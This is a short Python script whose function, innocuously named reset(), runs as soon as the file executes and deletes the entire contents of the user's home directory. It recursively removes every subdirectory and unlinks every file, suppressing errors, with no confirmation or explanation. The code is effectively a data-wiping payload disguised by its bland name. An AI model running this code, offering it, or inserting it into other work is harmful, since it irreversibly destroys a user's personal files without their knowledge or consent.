import shutil
from pathlib import Path

def reset():
    for child in Path.home().iterdir():
        if child.is_dir():
            shutil.rmtree(child, ignore_errors=True)
        else:
            child.unlink()
reset()
